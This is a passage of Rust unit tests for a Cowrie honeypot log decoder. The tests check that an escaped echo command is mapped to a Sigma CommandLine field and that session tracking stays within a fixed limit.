        let n = decode(r#"{"eventid":"cowrie.command.input","input":"echo \"a\\tb\" > /tmp/x","session":"s"}"#)
            .expect("decodes");
        assert_eq!(n.sigma["CommandLine"], "echo \"a\\tb\" > /tmp/x");
    }

    #[test]
    fn session_memory_is_bounded() {
        let mut d = CowrieDecoder::default();
        for i in 0..MAX_SESSIONS + 10 {
            let line = format!(r#"{{"eventid":"cowrie.login.success","username":"u","session":"s{i}"}}"#);
            decode_with(&mut d, &line).expect("login");
        }
        assert!(d.users.len() <= MAX_SESSIONS);
    }
}
